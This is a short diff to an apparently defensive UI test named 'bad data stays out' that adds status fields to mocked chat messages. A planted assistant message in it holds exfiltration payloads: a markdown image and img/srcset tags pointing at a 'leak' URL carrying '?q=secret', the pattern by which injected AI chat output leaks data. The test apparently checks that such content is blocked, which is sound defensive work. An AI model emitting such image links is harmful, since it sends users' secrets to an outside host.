@@ -119,11 +119,12 @@ test.describe('bad data stays out', () => {
         json: {
           success: true,
           data: [
-            { id: 'msg_planted_1', role: 'user', content: 'Show me', createdAt: now },
+            { id: 'msg_planted_1', role: 'user', content: 'Show me', createdAt: now, status: 'done' },
             {
               id: 'msg_planted_2',
               role: 'assistant',
               createdAt: now,
+              status: 'done',
               content: [
                 'Here is **the chart**: ![the chart](' + leak + '.png?q=secret)',
                 '<img src="' + leak + '-img.png"><img src="x" srcset="' + leak + '-srcset.png 2x">',
